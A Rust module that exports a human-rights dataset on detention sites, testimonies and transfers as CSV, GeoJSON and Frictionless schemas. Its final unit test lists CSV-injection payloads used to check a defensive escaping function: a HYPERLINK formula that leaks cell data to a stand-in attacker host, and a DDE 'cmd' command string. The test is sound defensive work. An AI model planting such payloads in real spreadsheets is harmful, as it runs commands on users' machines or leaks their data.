//! The open dataset: the published records as tables that researchers take
//! into their own tools (a spreadsheet, QGIS, R, Gephi).
//!
//! Each table's columns are declared once, here, with their type, whether a
//! value is required, the codes a value may take, and how a record gives it.
//! The CSV files, the GeoJSON properties, the Frictionless table schemas of
//! the dataset bundle and the documentation on the data page are all made
//! from these declarations, so they cannot disagree.
//!
//! Only what is public goes in: the records of the published [`Catalog`]
//! (testimonies that are published, sources that are), nothing of the intake
//! vault or the back office.

use crate::{Catalog, Finding, Id, Month, NewsItem, PartialDate, Site, Source, Stay, Testimony};
use serde_json::{Map, Value, json};

/// A published table of the dataset.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Table {
    Sites,
    Sources,
    Findings,
    Testimonies,
    Transfers,
    News,
}

/// What a column holds, as Frictionless Table Schema types name it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FieldType {
    /// Free text or an identifier.
    Text,
    /// One code of a closed vocabulary (its codes are in [`ColumnInfo::codes`]).
    Code,
    /// Codes of a closed vocabulary separated by `;`.
    CodeList,
    /// Texts separated by `;`.
    TextList,
    Integer,
    /// A decimal number (coordinates).
    Number,
    /// `true` or `false`.
    Boolean,
    /// `YYYY-MM`.
    YearMonth,
    /// A date to the precision known: `YYYY`, `YYYY-MM` or `YYYY-MM-DD`.
    PartialDate,
    /// An absolute `http`/`https` address.
    Url,
    /// An ISO 3166-1 alpha-2 code.
    Country,
}

impl FieldType {
    /// The Frictionless type and format of the column.
    fn frictionless(self) -> (&'static str, Option<&'static str>) {
        match self {
            FieldType::Text | FieldType::Code | FieldType::CodeList | FieldType::TextList | FieldType::Country => {
                ("string", None)
            }
            FieldType::PartialDate => ("string", None),
            FieldType::Url => ("string", Some("uri")),
            FieldType::Integer => ("integer", None),
            FieldType::Number => ("number", None),
            FieldType::Boolean => ("boolean", None),
            FieldType::YearMonth => ("yearmonth", None),
        }
    }
}

/// A column as documents describe it (the CSV header, a table schema, the data page).
#[derive(Debug, Clone, Copy)]
pub struct ColumnInfo {
    pub name: &'static str,
    pub ty: FieldType,
    /// Every row has a value.
    pub required: bool,
    /// Values are unique across the table.
    pub unique: bool,
    /// The codes a [`FieldType::Code`] or [`FieldType::CodeList`] value is made of.
    pub codes: &'static [&'static str],
}

/// One column with the way a row gives its value.
struct Column<R> {
    info: ColumnInfo,
    cell: fn(&Ctx, &R) -> String,
}

/// A reference from a column of one table to the key of another.
#[derive(Debug, Clone, Copy)]
pub struct ForeignKey {
    pub column: &'static str,
    pub table: Table,
    pub key: &'static str,
}

/// What values are read against: the catalog, and the address of the site
/// (a record's `url` is its stable page there).
pub struct Ctx<'a> {
    pub catalog: &'a Catalog,
    /// Without a trailing slash.
    pub public_url: &'a str,
}

/// A row of `transfers.csv`: one move of [`crate::network::moves`], owned
/// (the columns' functions take rows of one type, without a lifetime).
#[derive(Debug, Clone, PartialEq)]
pub struct TransferRow {
    pub testimony_id: Id,
    /// 1 for the first move the testimony records.
    pub sequence: usize,
    pub from: Stay,
    pub to: Stay,
}

/// Every move between two sites that the published testimonies record, in
/// testimony order: the moves the network of transfers is drawn from.
fn transfers(catalog: &Catalog) -> Vec<TransferRow> {
    crate::network::moves(catalog, catalog.testimonies().iter().map(|t| &**t))
        .into_iter()
        .map(|m| TransferRow {
            testimony_id: m.testimony.id.clone(),
            sequence: m.sequence,
            from: m.from.clone(),
            to: m.to.clone(),
        })
        .collect()
}

fn month(m: Option<Month>) -> String {
    m.map(|m| m.to_string()).unwrap_or_default()
}
fn date(d: Option<PartialDate>) -> String {
    d.map(|d| d.to_string()).unwrap_or_default()
}
fn list<T: std::fmt::Display>(items: &[T]) -> String {
    items.iter().map(ToString::to_string).collect::<Vec<_>>().join(";")
}
fn page(ctx: &Ctx, kind: &str, id: &Id) -> String {
    format!("{}/en/{kind}/{id}", ctx.public_url)
}

const fn col(name: &'static str, ty: FieldType, required: bool) -> ColumnInfo {
    ColumnInfo { name, ty, required, unique: false, codes: &[] }
}
const fn key(name: &'static str) -> ColumnInfo {
    ColumnInfo { name, ty: FieldType::Text, required: true, unique: true, codes: &[] }
}
const fn codes(name: &'static str, ty: FieldType, required: bool, codes: &'static [&'static str]) -> ColumnInfo {
    ColumnInfo { name, ty, required, unique: false, codes }
}

use crate::{AbuseType, CoordPrecision, Credibility, Reliability, SiteStatus, SiteType, SourceKind, WitnessRole};
use FieldType as T;

const SITES: &[Column<Site>] = &[
    Column { info: key("id"), cell: |_, s| s.id.to_string() },
    Column { info: col("url", T::Url, true), cell: |c, s| page(c, "sites", &s.id) },
    Column { info: col("name_en", T::Text, true), cell: |_, s| s.name.en.clone() },
    Column { info: col("name_uk", T::Text, true), cell: |_, s| s.name.uk.clone() },
    Column { info: col("name_ru", T::Text, false), cell: |_, s| s.name_ru.clone() },
    Column { info: col("aliases", T::TextList, false), cell: |_, s| list(&s.aliases) },
    Column { info: codes("site_type", T::Code, true, SiteType::CODES), cell: |_, s| s.site_type.to_string() },
    Column { info: col("settlement_en", T::Text, false), cell: |_, s| s.settlement.en.clone() },
    Column { info: col("settlement_uk", T::Text, false), cell: |_, s| s.settlement.uk.clone() },
    Column { info: col("region_en", T::Text, false), cell: |_, s| s.region.en.clone() },
    Column { info: col("region_uk", T::Text, false), cell: |_, s| s.region.uk.clone() },
    Column { info: col("country", T::Country, true), cell: |_, s| s.country.to_string() },
    Column { info: col("occupied", T::Boolean, true), cell: |_, s| s.occupied.to_string() },
    Column { info: col("lat", T::Number, true), cell: |_, s| s.lat.to_string() },
    Column { info: col("lon", T::Number, true), cell: |_, s| s.lon.to_string() },
    Column {
        info: codes("coord_precision", T::Code, true, CoordPrecision::CODES),
        cell: |_, s| s.precision.to_string(),
    },
    Column { info: col("operators", T::TextList, false), cell: |_, s| list(&s.operators) },
    Column { info: col("reported_from", T::YearMonth, false), cell: |_, s| month(s.reported_from) },
    Column { info: col("reported_to", T::YearMonth, false), cell: |_, s| month(s.reported_to) },
    Column { info: codes("status", T::Code, true, SiteStatus::CODES), cell: |_, s| s.status.to_string() },
    Column {
        info: codes("abuse_types", T::CodeList, false, AbuseType::CODES),
        cell: |c, s| list(&c.catalog.abuse_types_at(s.id.as_str())),
    },
    Column {
        info: col("sources", T::Integer, true),
        cell: |c, s| c.catalog.source_counts(s.id.as_str()).0.to_string(),
    },
    Column {
        info: col("independent_sources", T::Integer, true),
        cell: |c, s| c.catalog.source_counts(s.id.as_str()).1.to_string(),
    },
    Column {
        info: col("testimonies", T::Integer, true),
        cell: |c, s| c.catalog.testimonies_at(s.id.as_str()).len().to_string(),
    },
    Column { info: col("updated_on", T::PartialDate, false), cell: |c, s| date(c.catalog.last_updated(s.id.as_str())) },
];

const SOURCES: &[Column<Source>] = &[
    Column { info: key("id"), cell: |_, s| s.id.to_string() },
    Column { info: codes("kind", T::Code, true, SourceKind::CODES), cell: |_, s| s.kind.to_string() },
    Column { info: col("title", T::Text, false), cell: |_, s| s.title.clone() },
    Column { info: col("publisher", T::Text, true), cell: |_, s| s.publisher.clone() },
    Column { info: col("published_on", T::PartialDate, false), cell: |_, s| date(s.published_on) },
    Column { info: col("url", T::Url, true), cell: |_, s| s.url.clone() },
    Column { info: col("language", T::Text, true), cell: |_, s| s.language.clone() },
    Column { info: codes("reliability", T::Code, true, Reliability::CODES), cell: |_, s| s.reliability.to_string() },
    Column { info: codes("credibility", T::Code, true, Credibility::CODES), cell: |_, s| s.credibility.to_string() },
    Column { info: col("independence_group", T::Text, true), cell: |_, s| s.independence_group.clone() },
    Column { info: col("notes_en", T::Text, false), cell: |_, s| s.notes.en.clone() },
    Column { info: col("notes_uk", T::Text, false), cell: |_, s| s.notes.uk.clone() },
    Column { info: col("archived_sha256", T::Text, false), cell: |_, s| s.archived_sha256.clone().unwrap_or_default() },
    Column { info: col("updated_on", T::PartialDate, false), cell: |_, s| date(s.updated_on) },
];

const FINDINGS: &[Column<Finding>] = &[
    Column { info: col("source_id", T::Text, true), cell: |_, f| f.source_id.to_string() },
    Column { info: col("site_id", T::Text, true), cell: |_, f| f.site_id.to_string() },
    Column { info: codes("abuse_types", T::CodeList, false, AbuseType::CODES), cell: |_, f| list(&f.abuse_types) },
    Column { info: col("period_from", T::YearMonth, false), cell: |_, f| month(f.period_from) },
    Column { info: col("period_to", T::YearMonth, false), cell: |_, f| month(f.period_to) },
    Column { info: col("note_en", T::Text, false), cell: |_, f| f.note.en.clone() },
    Column { info: col("note_uk", T::Text, false), cell: |_, f| f.note.uk.clone() },
    Column { info: col("updated_on", T::PartialDate, false), cell: |_, f| date(f.updated_on) },
];

const TESTIMONIES: &[Column<Testimony>] = &[
    Column { info: key("id"), cell: |_, t| t.id.to_string() },
    Column {
        info: col("source_id", T::Text, false),
        cell: |_, t| t.source_id.as_ref().map(Id::to_string).unwrap_or_default(),
    },
    Column { info: codes("witness_role", T::Code, true, WitnessRole::CODES), cell: |_, t| t.witness_role.to_string() },
    Column { info: col("summary_en", T::Text, true), cell: |_, t| t.summary.en.clone() },
    Column { info: col("summary_uk", T::Text, false), cell: |_, t| t.summary.uk.clone() },
    Column { info: codes("abuse_types", T::CodeList, false, AbuseType::CODES), cell: |_, t| list(&t.abuse_types) },
    Column {
        info: col("site_ids", T::TextList, true),
        cell: |_, t| t.stays.iter().map(|s| s.site_id.to_string()).collect::<Vec<_>>().join(";"),
    },
    Column { info: col("updated_on", T::PartialDate, false), cell: |_, t| date(t.updated_on) },
];

const TRANSFERS: &[Column<TransferRow>] = &[
    Column { info: col("testimony_id", T::Text, true), cell: |_, r| r.testimony_id.to_string() },
    Column { info: col("sequence", T::Integer, true), cell: |_, r| r.sequence.to_string() },
    Column { info: col("from_site_id", T::Text, true), cell: |_, r| r.from.site_id.to_string() },
    Column { info: col("to_site_id", T::Text, true), cell: |_, r| r.to.site_id.to_string() },
    Column { info: col("held_from", T::YearMonth, false), cell: |_, r| month(r.from.from) },
    Column { info: col("moved_on", T::YearMonth, false), cell: |_, r| month(r.from.to.or(r.to.from)) },
    Column { info: col("held_to", T::YearMonth, false), cell: |_, r| month(r.to.to) },
];

const NEWS: &[Column<NewsItem>] = &[
    Column { info: key("id"), cell: |_, n| n.id.to_string() },
    Column { info: col("url", T::Url, true), cell: |c, n| page(c, "news", &n.id) },
    Column { info: col("date", T::PartialDate, true), cell: |_, n| n.date.to_string() },
    Column { info: col("title_en", T::Text, true), cell: |_, n| n.title.en.clone() },
    Column { info: col("title_uk", T::Text, false), cell: |_, n| n.title.uk.clone() },
    Column { info: col("summary_en", T::Text, false), cell: |_, n| n.summary.en.clone() },
    Column { info: col("summary_uk", T::Text, false), cell: |_, n| n.summary.uk.clone() },
    Column { info: col("body_en", T::Text, false), cell: |_, n| n.body.en.clone() },
    Column { info: col("body_uk", T::Text, false), cell: |_, n| n.body.uk.clone() },
    Column { info: col("source_name", T::Text, false), cell: |_, n| n.source_name.clone() },
    Column { info: col("source_url", T::Url, false), cell: |_, n| n.source_url.clone() },
    Column { info: col("site_ids", T::TextList, false), cell: |_, n| list(&n.site_ids) },
    Column { info: col("updated_on", T::PartialDate, false), cell: |_, n| date(n.updated_on) },
];

impl Table {
    pub const ALL: [Table; 6] =
        [Table::Sites, Table::Sources, Table::Findings, Table::Testimonies, Table::Transfers, Table::News];

    /// The table's name: its resource in the data package, its file without `.csv`.
    pub fn name(self) -> &'static str {
        match self {
            Table::Sites => "sites",
            Table::Sources => "sources",
            Table::Findings => "findings",
            Table::Testimonies => "testimonies",
            Table::Transfers => "transfers",
            Table::News => "news",
        }
    }

    pub fn file_name(self) -> String {
        format!("{}.csv", self.name())
    }

    pub fn from_file_name(file: &str) -> Option<Table> {
        Table::ALL.into_iter().find(|t| file.strip_suffix(".csv") == Some(t.name()))
    }

    pub fn columns(self) -> Vec<ColumnInfo> {
        fn infos<R>(cols: &[Column<R>]) -> Vec<ColumnInfo> {
            cols.iter().map(|c| c.info).collect()
        }
        match self {
            Table::Sites => infos(SITES),
            Table::Sources => infos(SOURCES),
            Table::Findings => infos(FINDINGS),
            Table::Testimonies => infos(TESTIMONIES),
            Table::Transfers => infos(TRANSFERS),
            Table::News => infos(NEWS),
        }
    }

    pub fn primary_key(self) -> &'static [&'static str] {
        match self {
            Table::Findings => &["source_id", "site_id"],
            Table::Transfers => &["testimony_id", "sequence"],
            _ => &["id"],
        }
    }

    pub fn foreign_keys(self) -> &'static [ForeignKey] {
        const fn fk(column: &'static str, table: Table) -> ForeignKey {
            ForeignKey { column, table, key: "id" }
        }
        const FINDINGS: &[ForeignKey] = &[fk("source_id", Table::Sources), fk("site_id", Table::Sites)];
        const TESTIMONIES: &[ForeignKey] = &[fk("source_id", Table::Sources)];
        const TRANSFERS: &[ForeignKey] =
            &[fk("testimony_id", Table::Testimonies), fk("from_site_id", Table::Sites), fk("to_site_id", Table::Sites)];
        match self {
            Table::Sites | Table::Sources | Table::News => &[],
            Table::Findings => FINDINGS,
            Table::Testimonies => TESTIMONIES,
            Table::Transfers => TRANSFERS,
        }
    }

    /// The table's rows, each as its cells in column order.
    pub fn rows(self, ctx: &Ctx) -> Vec<Vec<String>> {
        fn cells<'r, R: 'r>(ctx: &Ctx, cols: &[Column<R>], rows: impl Iterator<Item = &'r R>) -> Vec<Vec<String>> {
            rows.map(|r| cols.iter().map(|c| (c.cell)(ctx, r)).collect()).collect()
        }
        let cat = ctx.catalog;
        match self {
            Table::Sites => cells(ctx, SITES, cat.sites().iter().map(|s| &**s)),
            Table::Sources => cells(ctx, SOURCES, cat.sources().iter().map(|s| &**s)),
            Table::Findings => cells(ctx, FINDINGS, cat.findings().iter().map(|f| &**f)),
            Table::Testimonies => cells(ctx, TESTIMONIES, cat.testimonies().iter().map(|t| &**t)),
            Table::Transfers => cells(ctx, TRANSFERS, transfers(cat).iter()),
            Table::News => cells(ctx, NEWS, cat.news().iter().map(|n| &**n)),
        }
    }

    /// The table's rows as JSON objects, typed as the GeoJSON's properties
    /// are (numbers as numbers, lists as arrays, no value as `null`), each
    /// with its cursor: the primary key's cells joined by `~`, a number
    /// written with six digits, so that cursors sort as the rows do. The
    /// API's list of a table gives these, in cursor order.
    pub fn json_rows(self, ctx: &Ctx) -> Vec<(String, Value)> {
        let columns = self.columns();
        let key: Vec<usize> =
            self.primary_key().iter().filter_map(|k| columns.iter().position(|c| c.name == *k)).collect();
        let mut rows: Vec<(String, Value)> = self
            .rows(ctx)
            .into_iter()
            .map(|cells| {
                let cursor = key
                    .iter()
                    .map(|&i| match columns[i].ty {
                        FieldType::Integer => format!("{:0>6}", cells[i]),
                        _ => cells[i].clone(),
                    })
                    .collect::<Vec<_>>()
                    .join("~");
                let object: Map<String, Value> =
                    columns.iter().zip(cells).map(|(c, cell)| (c.name.to_owned(), typed(c.ty, cell))).collect();
                (cursor, Value::Object(object))
            })
            .collect();
        rows.sort_by(|a, b| a.0.cmp(&b.0));
        rows
    }

    /// The table as a CSV file: UTF-8, a header row, `\n` line ends, quoted
    /// where needed, and every text cell that a spreadsheet would run as a
    /// formula written as text ([`spreadsheet_text`]). Numbers, dates and
    /// booleans are written as they are: no such value starts that way but
    /// a negative number, which a spreadsheet reads as the number it is.
    pub fn csv(self, ctx: &Ctx) -> Vec<u8> {
        let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
        let columns = self.columns();
        let header: Vec<&str> = columns.iter().map(|c| c.name).collect();
        // Writing into a Vec cannot fail.
        let _ = w.write_record(&header);
        for row in self.rows(ctx) {
            let cells = row.iter().zip(&columns).map(|(cell, c)| match c.ty.frictionless().0 {
                "string" => spreadsheet_text(cell),
                _ => std::borrow::Cow::Borrowed(cell.as_str()),
            });
            let _ = w.write_record(cells.map(|c| c.into_owned()));
        }
        w.into_inner().unwrap_or_default()
    }

    /// The Frictionless Table Schema of the table; `describe` gives each
    /// column's description (in the language the package is written in).
    pub fn schema(self, describe: &dyn Fn(Table, &str) -> String) -> Value {
        let fields: Vec<Value> = self
            .columns()
            .iter()
            .map(|c| {
                let (ty, format) = c.ty.frictionless();
                let mut f = Map::new();
                f.insert("name".into(), c.name.into());
                f.insert("type".into(), ty.into());
                if let Some(format) = format {
                    f.insert("format".into(), format.into());
                }
                f.insert("description".into(), describe(self, c.name).into());
                let mut constraints = Map::new();
                if c.required {
                    constraints.insert("required".into(), true.into());
                }
                if c.unique {
                    constraints.insert("unique".into(), true.into());
                }
                match c.ty {
                    FieldType::Code => {
                        constraints.insert("enum".into(), json!(c.codes));
                    }
                    FieldType::CodeList => {
                        let one = c.codes.join("|");
                        constraints.insert("pattern".into(), format!("(({one})(;({one}))*)?").into());
                    }
                    FieldType::Country => {
                        constraints.insert("pattern".into(), "[A-Z]{2}".into());
                    }
                    FieldType::PartialDate => {
                        constraints.insert("pattern".into(), "[0-9]{4}(-[0-9]{2}(-[0-9]{2})?)?".into());
                    }
                    _ => {}
                }
                if !constraints.is_empty() {
                    f.insert("constraints".into(), Value::Object(constraints));
                }
                Value::Object(f)
            })
            .collect();
        let foreign: Vec<Value> = self
            .foreign_keys()
            .iter()
            .map(|k| json!({ "fields": k.column, "reference": { "resource": k.table.name(), "fields": k.key } }))
            .collect();
        let primary = self.primary_key();
        let mut schema = json!({ "fields": fields, "primaryKey": primary, "missingValues": [""] });
        if !foreign.is_empty() {
            schema["foreignKeys"] = Value::Array(foreign);
        }
        schema
    }
}

/// The sites as an RFC 7946 GeoJSON feature collection: one point a site
/// (longitude, latitude, WGS 84), with the columns of `sites.csv` as
/// properties, typed (numbers as numbers, booleans as booleans, lists as
/// arrays, no value as `null`).
pub fn sites_geojson(ctx: &Ctx) -> Vec<u8> {
    let columns = Table::Sites.columns();
    let features: Vec<Value> = ctx
        .catalog
        .sites()
        .iter()
        .map(|site| {
            let mut properties = Map::new();
            for (c, column) in SITES.iter().zip(&columns) {
                let cell = (c.cell)(ctx, site);
                properties.insert(column.name.into(), typed(column.ty, cell));
            }
            json!({
                "type": "Feature",
                "id": site.id.as_str(),
                "geometry": { "type": "Point", "coordinates": [site.lon, site.lat] },
                "properties": properties,
            })
        })
        .collect();
    let collection = json!({ "type": "FeatureCollection", "features": features });
    serde_json::to_vec(&collection).unwrap_or_default()
}

fn typed(ty: FieldType, cell: String) -> Value {
    if cell.is_empty() {
        return if matches!(ty, FieldType::CodeList | FieldType::TextList) { json!([]) } else { Value::Null };
    }
    match ty {
        FieldType::Integer => cell.parse::<i64>().map_or(Value::Null, Value::from),
        FieldType::Number => {
            cell.parse::<f64>().ok().and_then(serde_json::Number::from_f64).map_or(Value::Null, Value::Number)
        }
        FieldType::Boolean => Value::Bool(cell == "true"),
        FieldType::CodeList | FieldType::TextList => cell.split(';').map(Value::from).collect(),
        _ => Value::String(cell),
    }
}

/// The day the published data last changed: the latest `updated_on` of any
/// record, or `None` when no record says.
pub fn last_change(catalog: &Catalog) -> Option<PartialDate> {
    let sites = catalog.sites().iter().filter_map(|s| s.updated_on);
    let sources = catalog.sources().iter().filter_map(|s| s.updated_on);
    let findings = catalog.findings().iter().filter_map(|f| f.updated_on);
    let testimonies = catalog.testimonies().iter().filter_map(|t| t.updated_on);
    let news = catalog.news().iter().filter_map(|n| n.updated_on);
    sites.chain(sources).chain(findings).chain(testimonies).chain(news).max()
}

/// The characters with which a cell starts a formula in a spreadsheet
/// (Excel, LibreOffice, Google Sheets), the full-width forms that some of
/// them read the same way, and the whitespace they skip before looking.
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
const SKIPPED: &[char] = &[' ', '\t', '\r', '\n'];

/// A text cell as a spreadsheet must show it: one that would start a formula
/// (`=HYPERLINK(…)`, `-2+3+cmd|…`, `@SUM(…)`, also after leading tabs, line
/// breaks or spaces) gets a leading `'`, which spreadsheets read as "this is
/// text" (OWASP's advice on CSV injection). Every other cell is unchanged.
/// The one place every CSV file of the dataset is written through; the JSON
/// API and the GeoJSON keep the exact values.
pub fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
    let starts_formula =
        cell.starts_with(['\t', '\r', '\n']) || cell.trim_start_matches(SKIPPED).starts_with(FORMULA_START);
    if starts_formula { std::borrow::Cow::Owned(format!("'{cell}")) } else { std::borrow::Cow::Borrowed(cell) }
}

#[cfg(test)]
mod spreadsheet_tests {
    use super::spreadsheet_text;

    #[test]
    fn cells_that_would_run_are_written_as_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-2+3+cmd|' /C calc'!A0",
            "@evil(1)",
            "\t=1+1",
            "\r=1+1",
            "\n@x",
            "  =1",
            "\u{FF1D}1+1",
            "\tplain",
        ] {
            assert_eq!(spreadsheet_text(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["Olenivka", "", "a=b", "1-2", "'quoted", "https://example.org/?a=-1", "Taganrog — SIZO-2"] {
            assert_eq!(spreadsheet_text(cell), cell, "{cell:?}");
        }
    }
}
